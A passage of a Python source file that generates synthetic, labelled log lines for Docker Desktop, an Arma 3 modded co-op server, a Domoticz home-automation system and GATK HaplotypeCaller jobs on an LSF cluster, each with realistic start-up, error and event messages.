    def proxy():
        d("http-proxy", "I", f"system proxy changed: http={g.c(['http://proxy.corp.example:8080', ''])} https={g.c(['http://proxy.corp.example:8080', ''])} exclude=localhost,127.0.0.1,*.corp.example",
          "proxy_changed")
        d("http-proxy", "I", "reloading proxy settings for the engine", "reloading_proxy")

    def disk():
        d("disk", "W", f"docker data disk is {g.num(90, 99)}% full ({g.f(55, 62, 1)}GiB of 64.0GiB used)", "disk_almost_full")
        if g.r.random() < 0.4:
            d("apiproxy", "E", f"proxy << POST /v{st['api']}/build?t=shop-api:dev ({g.r.uniform(2000, 90000):.4f}ms): write /var/lib/docker/tmp/GetImageBlob{g.num(100000000, 999999999)}: "
                               "no space left on device", "proxy_response_error")

    def notify():
        d("notifications", "I", g.c(["sending notification: engine started", "sending notification: container shop-api-1 exited with code 137", "sending notification: update downloaded"]),
          "sending_notification")

    def restart_engine():
        d("engines", "I", "stopping engine linux/wsl2", "stopping_engine")
        L.t += dt.timedelta(seconds=g.num(2, 10))
        d("engines", "I", "starting engine linux/wsl2", "starting_engine")
        L.t += dt.timedelta(seconds=g.num(5, 30))
        d("engines", "I", "engine linux/wsl2 is running", "engine_running")
        d("notifications", "I", "sending notification: engine started", "sending_notification")

    def start():
        d("", "I", "Docker Desktop 4.36.0 (175267) starting", "starting")
        d("", "I", "detected Windows 11 Pro 23H2 build 22631.4460 (x86_64)", "windows_version")
        d("", "I", "user CORP\\jdoe is in the docker-users group", "docker_users")
        d("wsl2", "I", "WSL 2.3.26.0, kernel 5.15.167.4-1", "wsl_version")
        d("http-proxy", "I", "using system proxy: http://proxy.corp.example:8080", "using_proxy")
        d("engines", "I", "starting engine linux/wsl2", "starting_engine")
        L.t += dt.timedelta(seconds=g.num(5, 30))
        d("engines", "I", "engine linux/wsl2 is running", "engine_running")
        d("notifications", "I", "sending notification: engine started", "sending_notification")

    def quit_():
        d("", "I", "received quit request from Docker-Desktop/4.36.0 (Windows)", "quit_request")
        d("engines", "I", "stopping engine linux/wsl2", "stopping_engine")
        d("", "I", "shutdown complete", "shutdown_complete")
        L.t += dt.timedelta(hours=g.num(8, 16))
        start()

    start()
    ev = [(50, api), (8, create), (16, ipc), (3, wsl), (2.5, saver), (1.5, updates), (0.5, proxy), (0.6, disk), (2, notify), (0.3, restart_engine), (0.25, quit_)]
    return L.run(slowed(L, ev, 20), None)


# 11 --------------------------------------------------------------- Arma 3 dedicated server 2.18 (Windows, a community running ACE and CBA co-op missions), the server's RPT file of one evening,
#   arma3server_x64_2026-12-01_18-00-02.rpt: the "=====" start block without times, then " hh:mm:ss message" (time of day, the hour padded with a
#   space, no level); config warnings at start, BattlEye joins with GUIDs, chat lines, players connecting and leaving, CBA's and ACE's own log lines,
#   the mission's diag_log strings in quotes, script errors over four lines, network object noise ("Server: Object 2:345 not found")
@checked
def log_arma3(seed):
    L = Log("arma3_server_rpt", seed, "tod", False, False, start=dt.datetime(2026, 12, 1, 18, 0, 2, tzinfo=UTC))
    g = L.g
    NAMES = ["Kestrel", "[TFB] Hawk", "Vlad", "Sgt. Miller", "Ghost", "Bravo-6", "Jonny B", "Nyx", "Tanker", "Doc Holliday", "Ranger 1-2", "Wolf", "Mika", "Otter"]
    st = {"players": {}, "next": 0, "obj": g.num(100, 900)}

    def r(msg, ev):
        L.t += ms(g, 0, 300)
        L.emit(f"{L.t.hour:2d}:{L.t:%M:%S} {msg}", ev)

    def head():
        for text, ev in [("=====================================================================", "block_rule"), ("== C:\\Arma3Server\\arma3server_x64.exe", "block_exe"),
                         ("== arma3server_x64.exe  -port=2302 -config=server.cfg -cfg=basic.cfg -profiles=C:\\Arma3Server\\profiles -name=server -loadMissionToMemory "
                          "\"-mod=@CBA_A3;@ace;@ace_compat_rhs;@rhsafrf;@rhsusaf\" -serverMod=@ocap", "block_cmdline"), ("", "blank"),
                         ("Original output filename: Arma3Retail_Server_x64", "block_original"), ("Exe timestamp: 2024/10/08 16:06:37", "block_exe_timestamp"),
                         (f"Current time:  {L.t:%Y/%m/%d %H:%M:%S}", "block_current_time"), ("Type: Public", "block_type"), ("Build: Stable", "block_build"),
                         ("Version: 2.18.152302", "block_version"), ("", "blank"),
                         ("Allocator: C:\\Arma3Server\\Dll\\tbb4malloc_bi_x64.dll [2017.0.0.0] [2017.0.0.0]", "block_allocator"),
                         ("PhysMem: 64 GiB, VirtMem : 131072 GiB, AvailPhys : 55 GiB, AvailVirt : 131068 GiB, AvailPage : 60 GiB, PageSize : 4.0 KiB/2.0 MiB/HasLockMemory, CPUCount : 16",
                          "block_physmem"), ("=====================================================================", "block_rule"), ("", "blank")]:
            L.emit(text, ev, t="now" if ev == "block_current_time" else None)

    def startup():
        r("SteamAPI initialization failed. Steam features won't be accessible!", "steamapi_failed")
        r("Initializing stats manager.", "init_stats")
        r("Stats config disabled.", "stats_disabled")
        r(f"sessionID: {g.hx(40)}", "session_id")
        r("Item str_disp_server_control listed twice", "item_listed_twice")
        for _ in range(g.num(40, 70)):
            base = g.c(["RscText", "RscButton", "RscPicture", "ctrlDefaultText", "Default", "Land_DataTerminal_01_F", "House_Small_F", "ThingX", "Car_F", "Tank_F"])
            new = g.c(["RscText", "RscButton", "ctrlDefault", "NonStrategic", "House_F", "Thing", "LandVehicle", "Tank"])
            src = g.c(["z\\ace\\addons\\common\\config.bin/RscTitles/ACE_Common_", "x\\cba\\addons\\ui\\config.bin/", "rhsafrf\\addons\\rhs_main\\config.bin/CfgVehicles/",
                       "a3\\structures_f\\data\\DataTerminal\\config.bin/CfgVehicles/", "rhsusf\\addons\\rhsusf_main\\config.bin/CfgVehicles/"])
            cls = g.c(['RscDisplayMain', 'ctrlControlsGroup', 'rhs_t72ba_tv', 'rhsusf_m1a1tank_base', 'Land_DataTerminal_01_F', 'RscDisplayInventory'])
            orig = g.c(['(no unload)', 'a3\\ui_f\\config.bin', 'a3\\armor_f\\config.bin'])
            r(f"Updating base class {base}->{new}, by {src}{cls}/ (original {orig})", "updating_base_class")
        for _ in range(g.num(3, 8)):
            r(f"Warning Message: No entry 'bin\\config.bin/CfgWeapons/{g.c(['rhs_weap_ak74m', 'ACE_fieldDressing', 'rhs_mag_30Rnd_545x39', 'rhsusf_acc_ACOG'])}.{g.c(['scope', 'displayName', 'picture'])}'.",
              "no_entry_warning")
        for mt in ["CfgGesturesMale", "CfgMovesMaleSdr"]:
            r(f"Loading movesType {mt}", "loading_movestype")
            r("Creating action map cache", "action_map_cache")
            L.t += ms(g, 500, 4000)
            r(f"MovesType {mt} load time {g.f(300, 5000, 1)} ms", "movestype_load_time")
        r("Initializing Steam server - Game Port: 2302, Steam Query Port: 2303", "init_steam_server")
        L.t += ms(g, 500, 3000)
        r("Connected to Steam servers", "connected_steam")
        r("Host identity created.", "host_identity")
        r(f"[CBA] (xeh) INFO: [{g.num(1000, 9000)},{g.f(20, 60, 3)},0] PreStart started.", "cba_prestart_started")
        r(f"[CBA] (xeh) INFO: [{g.num(1000, 9000)},{g.f(20, 60, 3)},0] PreStart finished.", "cba_prestart_finished")
        mission()

    def mission():
        m = g.c(["co40_Operation_Broken_Arrow.Altis", "co32_Night_Raid.Tanoa", "co24_Convoy_Ambush.Malden", "co48_Antistasi_Plus.Altis"])
        r("Roles assigned.", "roles_assigned")
        r(f"Reading mission ...", "reading_mission")
        L.t += ms(g, 1000, 6000)
        r(f"[CBA] (xeh) INFO: [{g.num(1000, 9000)},{g.f(60, 900, 3)},0] PreInit started. v3.18.1.241014", "cba_preinit_started")
        r(f"[ACE] (common) INFO: ACE is version 3.18.0.105.", "ace_version")
        r(f"[CBA] (settings) INFO: Reading settings from settings file.", "cba_reading_settings")
        r(f"[CBA] (xeh) INFO: [{g.num(1000, 9000)},{g.f(60, 900, 3)},0] PreInit finished.", "cba_preinit_finished")
        r("Mission read.", "mission_read")
        r(f"Game started.", "game_started")
        r(f"\"{m.split('.')[0]}: mission init, {g.num(80, 300)} units placed\"", "diag_mission_init")
        r(f"BattlEye Server: Initialized (v1.220)", "be_initialized")

    def join():
        free = [n for n in NAMES if n not in st["players"]]
        if not free:
            return leave()
        n = g.c(free)
        num = st["next"]
        st["next"] += 1
        st["players"][n] = (num, g.hx(32), f"7656119{g.num(8000000000, 9999999999)}", L.t)
        num, guid, sid, _ = st["players"][n]
        ip = f"{g.ip('pub')}:{g.c([2304, 2304, 2316, 2324, g.port()])}"
        r(f"Player {n} connecting.", "player_connecting")
        r(f"BattlEye Server: Player #{num} {n} ({ip}) connected", "be_player_connected")
        r(f"Player {n} connected (id={sid}).", "player_connected")
        r(f"BattlEye Server: Player #{num} {n} - BE GUID: {guid}", "be_guid")
        L.t += ms(g, 500, 5000)
        r(f"BattlEye Server: Verified GUID ({guid}) of player #{num} {n}", "be_verified_guid")

    def leave():
        old = [p for p, v in st["players"].items() if (L.t - v[3]).total_seconds() > 900]
        if not old:
            return chat() if st["players"] else join()
        n = g.c(sorted(old))
        num, guid, sid, _ = st["players"].pop(n)
        if g.r.random() < 0.1:
            r(f"BattlEye Server: Player #{num} {n} ({guid}) has been kicked by BattlEye: Client not responding", "be_kicked")
        r(f"Player {n} disconnected.", "player_disconnected")
        r(f"BattlEye Server: Player #{num} {n} disconnected", "be_player_disconnected")
        if g.r.random() < 0.5:
            r(f"Warning: Cleanup player - person {g.num(2, 9)}:{g.num(100, 9000)} not found", "cleanup_player")

    def chat():
        if not st["players"]:
            return join()
        n = g.c(sorted(st["players"]))
        ch = g.c(["Side", "Side", "Global", "Group", "Vehicle", "Direct", "Command"])
        txt = g.c(["contact north, 300m", "need a medic at the compound", "rtb", "who has the AT?", "heli inbound, pop smoke", "lol", "moving to waypoint 2", "my game froze",
                   "reloading", "can someone revive me", "good game all", "cleared the town", "enemy armor east", "o7", "copy that", "mortar team in position"])
        r(f"BattlEye Server: ({ch}) {n}: {txt}", "be_chat")

    def noise():
        k = g.r.random()
        if k < 0.45:
            r(f"Server: Object {g.num(2, 9)}:{g.num(100, 9000)} not found (message {g.c(['Type_120', 'Type_119', 'Type_93', 'Type_121'])})", "object_not_found")
        elif k < 0.7:
            r(f"Client: Nonnetwork object {g.hx(8)}.", "nonnetwork_object")
        elif k < 0.85:
            shape = g.c(['<no shape>', 'a3\\structures_f\\walls\\wall_indcnc_4.p3d', 'rhsafrf\\addons\\rhs_a2port_car\\uaz\\uaz.p3d'])
            r(f"Ref to nonnetwork object {g.num(1000000, 9999999)}: {shape}", "ref_nonnetwork")
        else:
            r("Unaccessible", "unaccessible")

    def script_error():
        fn, line, code = g.c([("functions\\fn_applyDamage.sqf", 14, ("_unit setDamage (damage _unit + _dmg);", "setDamage (damage _unit + _dmg);", "Error Type Any, expected Number")),
                              ("scripts\\ambient\\patrol.sqf", 37, ("_grp addWaypoint [_pos, 50];", "addWaypoint [_pos, 50];", "Error Undefined variable in expression: _pos")),
                              ("functions\\fn_spawnConvoy.sqf", 88, ("(_vehicles select _i) setFuel 1;", "select _i) setFuel 1;", "Error Zero divisor")),
                              ("scripts\\hud\\update.sqf", 9, ("ctrlSetText format [\"%1 rounds\", _ammo];", "format [\"%1 rounds\", _ammo];", "Error Type Nothing, expected String"))])
        mis = g.c(["co40_Operation_Broken_Arrow.Altis", "co32_Night_Raid.Tanoa"])
        r(f"Error in expression <{code[0]}>", "error_in_expression")
        r(f"  Error position: <{code[1]}>", "error_position")
        r(f"  {code[2]}", "error_type")
        r(f"File mpmissions\\__cur_mp.{mis.split('.')[1]}\\{fn}..., line {line}", "error_file")

    def diag():
        r(*g.c([(f"\"[OCAP] Recording frame {g.num(100, 9000)}, {g.num(20, 300)} entities\"", "diag_ocap_frame"),
                (f"\"Ambient: spawned patrol group of {g.num(3, 8)} at [{g.f(1000, 25000, 1)},{g.f(1000, 25000, 1)},0]\"", "diag_ambient_patrol"),
                (f"\"Garbage collector: deleted {g.num(1, 40)} bodies and {g.num(0, 9)} wrecks\"", "diag_garbage_collector")]))

    def ace():
        r(*g.c([(f"[ACE] (medical_treatment) INFO: Litter cleanup: {g.num(10, 200)} objects removed", "ace_litter_cleanup"),
                (f"[CBA] (events) WARNING: Event handler for ace_unconscious took {g.f(1, 20, 2)} ms", "cba_event_handler_slow"),
                (f"[ACE] (common) WARNING: Unit {g.num(2, 9)}:{g.num(100, 900)} local to client {g.num(3, 20)} has no ACE PBOs loaded", "ace_no_pbos")]))

    def mission_end():
        r("Game finished.", "game_finished")
        L.t += dt.timedelta(seconds=g.num(20, 90))
        mission()

    head()
    startup()
    ev = [(10, join), (9, leave), (18, chat), (30, noise), (4, script_error), (8, diag), (4, ace), (0.3, mission_end)]
    return next_times(L.run(slowed(L, ev, 8), None))


# 12 --------------------------------------------------------------- Domoticz 2024.7 home automation on a Raspberry Pi 4 (Zigbee2MQTT and a P1 smart meter via MQTT, an RFXtrx433,
#   dzVents scripts), /var/log/domoticz.log: "yyyy-mm-dd hh:mm:ss.mmm  message" with two spaces, "Status: " or "Error: " before the message or
#   no level at all; device updates as "(Hardware) Type (Device)", dzVents' script lines, users switching, sun times at midnight, notifications,
#   hardware threads ending unexpectedly, an MQTT broker going away, a restart with its start-up lines
@checked
def log_domoticz(seed):
    L = Log("domoticz_log", seed, "full", True, False)
    g = L.g
    DEVICES = [("Zigbee2MQTT", "Temp + Humidity", "Living Room TH"), ("Zigbee2MQTT", "Temp + Humidity", "Bedroom TH"), ("Zigbee2MQTT", "Light/Switch", "Motion Hall"),
               ("Zigbee2MQTT", "Light/Switch", "Hall Light"), ("Zigbee2MQTT", "Light/Switch", "Door Front"), ("Zigbee2MQTT", "Usage/Electric", "Washer Power"),
               ("P1 Meter", "P1 Smart Meter", "Power"), ("P1 Meter", "P1 Smart Meter", "Gas"), ("RFXCOM", "Temp + Humidity", "Garden"), ("RFXCOM", "Lighting 2", "Garden Lights"),
               ("Buienradar", "Rain", "Rain"), ("Buienradar", "Wind", "Wind")]
    SCRIPTS = [("HallLight", "Motion Hall"), ("FrontDoorAlert", "Door Front"), ("WasherDone", "Washer Power"), ("GardenLightsSunset", None)]
    USERS = ["admin", "sanne", "pieter"]

    def dz(msg, ev, lv=None):
        L.t += ms(g, 0, 150)
        L.emit(f"{L.t:%Y-%m-%d %H:%M:%S}.{ms3(L.t)}  {lv + ': ' if lv else ''}{msg}", ev, lv)

    def startup():
        dz("Domoticz V2024.7 (c)2012-2024 GizMoCuz", "version", "Status")
        dz("Build Hash: 1c8ab2d3b, Date: 2024-09-15 13:12:05", "build_hash", "Status")
        dz("Startup Path: /home/pi/domoticz/", "startup_path", "Status")
        sun()
        dz("PluginSystem: Started, Python version '3.11.2', 1 plugin definitions loaded.", "plugin_system", "Status")
        dz("Active notification Subsystems: http, telegram (2/13)", "active_notifications")
        dz("Status: WebServer(HTTP) started on address: :: with port 8080".split(": ", 1)[1], "webserver_started", "Status")
        dz("WebServer(SSL) started on address: :: with port 443", "webserver_started", "Status")
        dz("Proxymanager started.", "proxymanager", "Status")
        dz("TCPServer: shared server started...", "tcpserver", "Status")
        dz("RxQueue: queue worker started...", "rxqueue", "Status")
        L.t += ms(g, 500, 2000)
        for hw, kind in [("Zigbee2MQTT", "MQTT Auto Discovery Client Gateway with LAN interface"), ("P1 Meter", "MQTT Client Gateway with LAN interface"), ("RFXCOM", "RFXCOM - RFXtrx433 USB 433.92MHz Transceiver"),
                         ("Buienradar", "Buienradar (Dutch Weather Information)")]:
            dz(f"{hw}: Worker started...", "worker_started", "Status")
        dz("Zigbee2MQTT: Connecting to 127.0.0.1:1883", "mqtt_connecting", "Status")
        dz("Zigbee2MQTT: connected to: 127.0.0.1:1883", "mqtt_connected", "Status")
        dz("RFXCOM: Using serial port: /dev/ttyUSB0", "rfx_serial", "Status")
        dz("RFXCOM: Receiver/Transceiver type: 433.92MHz, Firmware version: 1025, Firmware type: Pro XL1", "rfx_firmware")
        dz("NotificationSystem: thread started...", "notification_thread", "Status")
        dz("EventSystem: reset all events...", "eventsystem_reset", "Status")
        for s, _ in SCRIPTS:
            dz(f"dzVents: Write file: /home/pi/domoticz/scripts/dzVents/generated_scripts/{s}.lua", "dzvents_write_file", "Status")
        dz("EventSystem: Started", "eventsystem_started", "Status")
        dz("EventSystem: Queue thread started...", "eventsystem_queue", "Status")

    def sun():
        dz(f"Sunrise: 08:{g.num(20, 40):02d}:00 SunSet: 16:{g.num(25, 35):02d}:00", "sunrise", "Status")
        dz(f"Day length: 08:{g.num(0, 10):02d}:00 Sun at south: 12:{g.num(25, 30):02d}:00", "day_length", "Status")
        dz(f"Civil twilight start: 07:{g.num(40, 55):02d}:00 Civil twilight end: 17:{g.num(5, 15):02d}:00", "civil_twilight", "Status")
        dz(f"Nautical twilight start: 07:{g.num(0, 15):02d}:00 Nautical twilight end: 17:{g.num(45, 55):02d}:00", "nautical_twilight", "Status")
        dz(f"Astronomical twilight start: 06:{g.num(20, 35):02d}:00 Astronomical twilight end: 18:{g.num(25, 40):02d}:00", "astro_twilight", "Status")

    def device():
        hw, kind, name = g.c(DEVICES + [DEVICES[0], DEVICES[1], DEVICES[6], DEVICES[6], DEVICES[5]])
        dz(f"({hw}) {kind} ({name})", "device_update")
        for s, trig in SCRIPTS:
            if trig == name and (name != "Washer Power" or g.r.random() < 0.1):
                script(s, name)

    def script(s, dev):
        val = {"Motion Hall": g.c(["On", "Off"]), "Door Front": g.c(["Open", "Closed"]), "Washer Power": g.f(0, 2200, 1)}.get(dev, "On")
        dz(f"dzVents: Info: Handling events for: \"{dev}\", value: \"{val}\"", "dzvents_handling", "Status")
        dz(f"dzVents: Info: ------ Start internal script: {s}: Device: \"{dev} (Zigbee2MQTT)\", Index: {g.num(10, 90)}", "dzvents_start_script", "Status")
        if s == "HallLight" and val == "On":
            dz(f"dzVents: Info: {s}: motion in hall, switching on Hall Light for 120 seconds", "dzvents_script_log", "Status")
        if s == "FrontDoorAlert" and val == "Open" and g.r.random() < 0.3:
            dz(f"dzVents: Error: (3.1.8) {s}: An error occurred when calling event handler {s}", "dzvents_error", "Error")
            dz(f"dzVents: Error: (3.1.8) {s}: /home/pi/domoticz/scripts/dzVents/generated_scripts/{s}.lua:{g.c([14, 14, 22])}: attempt to index a nil value (field '?')", "dzvents_error", "Error")
        dz(f"dzVents: Info: ------ Finished {s}", "dzvents_finished", "Status")
        if s == "HallLight" and val == "On":
            dz("(Zigbee2MQTT) Light/Switch (Hall Light)", "device_update")

    def user_switch():
        dev, idx, hw, kind = g.c([("Hall Light", 45, "Zigbee2MQTT", "Light/Switch"), ("Garden Lights", 12, "RFXCOM", "Lighting 2"), ("Kitchen Spots", 51, "Zigbee2MQTT", "Light/Switch"),
                                  ("Heater Attic", 63, "Zigbee2MQTT", "Light/Switch")])
        u = g.c(USERS)
        dz(f"User: {u} (IP: 192.168.1.{g.num(20, 60)}) initiated a switch command ({idx}/{dev}/{g.c(['On', 'Off'])})", "user_switch", "Status")
        dz(f"({hw}) {kind} ({dev})", "device_update")

    def notif():
        dz(f"Notification: {g.c(['Living Room TH Temperature is 26.1 degrees', 'Washer done!', 'Front door opened while away', 'Gas usage high today'])}", "notification", "Status")

    def hw_dead():
        hw = g.c(["Zigbee2MQTT", "RFXCOM", "Buienradar", "P1 Meter"])
        dz(f"{hw} hardware ({g.num(2, 9)}) thread seems to have ended unexpectedly", "hw_thread_ended", "Error")
        L.t += dt.timedelta(seconds=g.num(5, 40))
        dz(f"{hw}: Worker started...", "worker_started", "Status")

    def buien():
        dz(f"Buienradar: Error getting http data! (https://data.buienradar.nl/2.0/feed/json, {g.c(['Timeout', 'HTTP 503', 'Could not resolve host'])})", "buienradar_error", "Error")

    def mqtt_loss():
        dz("Zigbee2MQTT: disconnected, restarting (rc=7/The connection was lost.)", "mqtt_disconnected", "Error")
        L.t += dt.timedelta(seconds=30)
        dz("Zigbee2MQTT: Connecting to 127.0.0.1:1883", "mqtt_connecting", "Status")
        dz("Zigbee2MQTT: connected to: 127.0.0.1:1883", "mqtt_connected", "Status")

    def event_lua():
        dz(f"EventSystem: Script event triggered: /home/pi/domoticz/scripts/lua/script_time_{g.c(['backup', 'heating'])}.lua", "script_event_triggered", "Status")

    def midnight():
        nxt = (L.t + dt.timedelta(days=1)).replace(hour=0, minute=0, second=g.num(0, 2))
        L.t = nxt
        sun()

    def restart():
        dz("Closing application!...", "closing", "Status")
        dz("Stopping all hardware...", "stopping_hw", "Status")
        dz("Mainworker Stopped...", "mainworker_stopped", "Status")
        L.t += dt.timedelta(seconds=g.num(10, 90))
        startup()

    startup()
    ev = [(45, device), (5, user_switch), (3, notif), (1, hw_dead), (3, buien), (0.5, mqtt_loss), (3, event_lua), (0.25, midnight), (0.15, restart)]
    return L.run(slowed(L, ev, 25), None)


# 13 --------------------------------------------------------------- GATK 4.6.0.0 HaplotypeCaller as an IBM Spectrum LSF 10.1 job array on a university cluster (exome samples, -ERC GVCF),
#   `cat logs/hc_*.out` of the array: each file starts with LSF's job report ("Sender:", "Subject:", "Job <hc[3]> was submitted ...", the job
#   script between rules, "Successfully completed." or "Exited with exit code ...", the resource usage summary, "The output (if any) follows:"),
#   then gatk's "Using GATK jar" and "Running:" lines and GATK's log "hh:mm:ss.mmm LEVEL Logger - message" (time of day only), the ProgressMeter
#   table rows, a read-filter summary whose lines after the first have no header, "[December 1, 2026 at ...] ... done." and a USER ERROR block
@checked
def log_gatk_lsf(seed):
    L = Log("gatk_lsf_job_outputs", seed, "tod", True, True, start=dt.datetime(2026, 12, 1, 9, 58, 12, tzinfo=UTC))
    g = L.g
    JAR = "/apps/gatk/4.6.0.0/gatk-package-4.6.0.0-local.jar"
    JOB = g.num(4400000, 4499999)
    CHROMS = [("chr1", 248956422), ("chr2", 242193529), ("chr3", 198295559), ("chr4", 190214555), ("chr5", 181538259), ("chr6", 170805979), ("chr7", 159345973),
              ("chr8", 145138636), ("chr9", 138394717), ("chr10", 133797422), ("chr11", 135086622), ("chr12", 133275309), ("chr13", 114364328), ("chr14", 107043718),
              ("chr15", 101991189), ("chr16", 90338345), ("chr17", 83257441), ("chr18", 80373285), ("chr19", 58617616), ("chr20", 64444167), ("chr21", 46709983),
              ("chr22", 50818468), ("chrX", 156040895)]
    SCRIPT = ["#!/bin/bash", "#BSUB -J hc[1-24]", "#BSUB -n 8", "#BSUB -R \"rusage[mem=4000] span[hosts=1]\"", "#BSUB -W 01:00", "#BSUB -q normal", "#BSUB -o logs/hc_%J_%I.out",
              "module load gatk/4.6.0.0", "S=$(sed -n \"${LSB_JOBINDEX}p\" samples.txt)",
              "gatk --java-options \"-Xmx24g\" HaplotypeCaller -R ref/GRCh38.fa -I bam/${S}.bam -O gvcf/${S}.g.vcf.gz -ERC GVCF -L ref/exome_targets.bed --native-pair-hmm-threads 8"]

    def gk(lv, logger, msg, ev, cont=(), step=(0, 30)):
        L.t += ms(g, *step)
        L.emit(f"{L.t:%H:%M:%S}.{ms3(L.t)} {lv:<5} {logger} - {msg}", ev, lv, logger)
        for text, cev in cont:
            L.emit(text, cev, lv, logger)

    def job(idx, host, outcome):
        sample = f"EX{g.num(2100, 2999)}"
        rows0 = len(L.rows)
        submit = L.t
        L.t += dt.timedelta(seconds=g.num(20, 400))
        start = L.t
        gatk_out(sample, host, outcome)
        end = L.t
        body = L.rows[rows0:]
        del L.rows[rows0:]
        cpu = (end - start).total_seconds() * g.r.uniform(4, 7.5)
        status = {"ok": "Done", "user_error": "Exited", "runlimit": "Exited"}[outcome]
        rep = [(f"Sender: LSF System <lsfadmin@{host}>", "lsf_sender", None), (f"Subject: Job {JOB}[{idx}]: <hc[{idx}]> in cluster <hpc_cluster> {status}", "lsf_subject", None),
               ("", "blank", None),
               (f"Job <hc[{idx}]> was submitted from host <login01> by user <mgarcia> in cluster <hpc_cluster> at {ctime(submit)}", "lsf_submitted", submit),
               (f"Job was executed on host(s) <8*{host}>, in queue <normal>, as user <mgarcia> in cluster <hpc_cluster> at {ctime(start)}", "lsf_executed", start),
               ("</home/mgarcia> was used as the home directory.", "lsf_home_dir", start), ("</scratch/mgarcia/exome_batch7> was used as the working directory.", "lsf_work_dir", start),
               (f"Started at {ctime(start)}", "lsf_started_at", start), (f"Terminated at {ctime(end)}", "lsf_terminated_at", end), (f"Results reported at {ctime(end)}", "lsf_reported_at", end),
               ("", "blank", end), ("Your job looked like:", "lsf_job_looked_like", end), ("", "blank", end), ("-" * 60, "lsf_rule", end), ("# LSBATCH: User input", "lsf_user_input", end)]
        rep += [(line, "lsf_script_line", end) for line in SCRIPT]
        rep += [("", "blank", end), ("-" * 60, "lsf_rule", end), ("", "blank", end)]
        if outcome == "ok":
            rep += [("Successfully completed.", "lsf_success", end)]
        elif outcome == "user_error":
            rep += [("Exited with exit code 2.", "lsf_exit_code", end)]
        else:
            rep += [("TERM_RUNLIMIT: job killed after reaching LSF run time limit.", "lsf_term_runlimit", end), ("Exited with exit code 140.", "lsf_exit_code", end)]
        mem = g.num(9000, 22000) if outcome != "user_error" else g.num(300, 900)
        rep += [("", "blank", end), ("Resource usage summary:", "lsf_usage_summary", end), ("", "blank", end),
                (f"    CPU time :                                   {cpu:.2f} sec.", "lsf_usage_row", end), (f"    Max Memory :                                 {mem} MB", "lsf_usage_row", end),
                (f"    Average Memory :                             {mem * g.r.uniform(0.6, 0.9):.2f} MB", "lsf_usage_row", end),
                ("    Total Requested Memory :                     32000.00 MB", "lsf_usage_row", end), (f"    Delta Memory :                               {32000 - mem:.2f} MB", "lsf_usage_row", end),
                ("    Max Swap :                                   -", "lsf_usage_row", end), (f"    Max Processes :                              {g.num(3, 5)}", "lsf_usage_row", end),
                (f"    Max Threads :                                {g.num(30, 60)}", "lsf_usage_row", end),
                (f"    Run time :                                   {int((end - start).total_seconds())} sec.", "lsf_usage_row", end),
                (f"    Turnaround time :                            {int((end - submit).total_seconds())} sec.", "lsf_usage_row", end), ("", "blank", end),
                ("The output (if any) follows:", "lsf_output_follows", end), ("", "blank", None)]
        for text, ev, t in rep:
            if ev == "lsf_usage_row":
                ev = "lsf_usage_" + text.split(":")[0].strip().lower().replace(" ", "_")
            L.emit(text, ev, t=t)
        L.rows.extend(body)
        L.emit("", "blank")
        L.t = end

    def gatk_out(sample, host, outcome):
        L.t += ms(g, 300, 2000)
        L.emit(f"Using GATK jar {JAR}", "using_gatk_jar", t=None)
        L.emit("Running:", "running", t=None)
        L.emit(f"    java -Dsamjdk.use_async_io_read_samtools=false -Dsamjdk.use_async_io_write_samtools=true -Dsamjdk.use_async_io_write_tribble=false -Dsamjdk.compression_level=2 -Xmx24g "
               f"-jar {JAR} HaplotypeCaller -R ref/GRCh38.fa -I bam/{sample}.bam -O gvcf/{sample}.g.vcf.gz -ERC GVCF -L ref/exome_targets.bed --native-pair-hmm-threads 8", "java_command", t=None)
        L.t += ms(g, 800, 2500)
        H = "HaplotypeCaller"
        gk("INFO", "NativeLibraryLoader", f"Loading libgkl_compression.so from jar:file:{JAR}!/com/intel/gkl/native/libgkl_compression.so", "loading_native_lib")
        gk("INFO", H, "-" * 60, "rule")
        gk("INFO", H, "The Genome Analysis Toolkit (GATK) v4.6.0.0", "gatk_version")
        gk("INFO", H, "For support and documentation go to https://software.broadinstitute.org/gatk/", "support")
        gk("INFO", H, f"Executing as mgarcia@{host} on Linux v4.18.0-513.24.1.el8_9.x86_64 amd64", "executing_as")
        gk("INFO", H, "Java runtime: OpenJDK 64-Bit Server VM v17.0.12+7", "java_runtime")
        gk("INFO", H, f"Start Date/Time: {L.t:%B} {L.t.day}, {L.t.year} at {L.t.hour % 12 or 12}:{L.t:%M:%S} {L.t:%p} UTC", "start_datetime")
        gk("INFO", H, "-" * 60, "rule")
        gk("INFO", H, "-" * 60, "rule")
        for k, v in [("HTSJDK Version", "4.1.1"), ("Picard Version", "3.2.0"), ("Built for Spark Version", "3.5.0")]:
            gk("INFO", H, f"{k}: {v}", k.lower().replace(" ", "_"))
        for k, v in [("COMPRESSION_LEVEL", "2"), ("USE_ASYNC_IO_READ_FOR_SAMTOOLS", "false"), ("USE_ASYNC_IO_WRITE_FOR_SAMTOOLS", "true"), ("USE_ASYNC_IO_WRITE_FOR_TRIBBLE", "false")]:
            gk("INFO", H, f"HTSJDK Defaults.{k} : {v}", "htsjdk_default_" + k.lower())
        gk("INFO", H, "Deflater: IntelDeflater", "deflater")
        gk("INFO", H, "Inflater: IntelInflater", "inflater")
        gk("INFO", H, "GCS max retries/reopens: 20", "gcs_retries")
        gk("INFO", H, "Requester pays: disabled", "requester_pays")
        gk("INFO", H, "Initializing engine", "initializing_engine")
        if outcome == "user_error":
            L.t += ms(g, 500, 3000)
            done(H, 0)
            kind = g.r.random() < 0.5
            L.emit("*" * 71, "error_stars")
            L.emit("", "blank")
            if kind:
                L.emit(f"A USER ERROR has occurred: Couldn't read file file:///scratch/mgarcia/exome_batch7/bam/{sample}.bam. Error was: It doesn't exist.", "user_error")
            else:
                L.emit(f"A USER ERROR has occurred: Input files reference and reads have incompatible contigs: Found contigs with the same name but different lengths:", "user_error")
                L.emit("  contig reference = chrM / 16569", "user_error_contig_reference")
                L.emit("  contig reads = chrM / 16571.", "user_error_contig_reads")
                L.emit("  reference contigs = [chr1, chr2, chr3, chr4, chr5, chr6, chr7, chr8, chr9, chr10, chr11, chr12, chr13, chr14, chr15, chr16, chr17, chr18, chr19, chr20, chr21, chr22, chrX, chrY, chrM]",
                       "user_error_reference_contigs")
                L.emit("  reads contigs = [chr1, chr2, chr3, chr4, chr5, chr6, chr7, chr8, chr9, chr10, chr11, chr12, chr13, chr14, chr15, chr16, chr17, chr18, chr19, chr20, chr21, chr22, chrX, chrY, chrM]",
                       "user_error_reads_contigs")
            L.emit("", "blank")
            L.emit("*" * 71, "error_stars")
